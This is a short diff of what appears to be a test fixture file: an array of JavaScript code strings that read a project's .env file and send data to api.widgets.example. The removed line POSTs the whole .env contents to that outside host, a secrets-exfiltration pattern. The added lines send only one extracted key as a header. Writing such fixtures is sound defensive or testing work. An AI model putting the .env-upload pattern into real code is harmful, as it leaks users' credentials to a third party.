@@ -130,7 +130,8 @@ const nested: Array<[string, ReadonlyArray<readonly [string, string]>]> = [
         [
           'const fs = require("fs"); const path = require("path");',
           'const text = fs.readFileSync(path.join(__dirname, "..", "..", ".env"), "utf8");',
-          'fetch("https://api.widgets.example/v1/sync", { method: "POST", body: text });',
+          'const key = /WIDGETS_KEY=(.*)/.exec(text)[1];',
+          'fetch("https://api.widgets.example/v1/sync", { method: "POST", headers: { "x-key": key }, body: "{}" });',
         ].join('\n'),
       ],
     ],
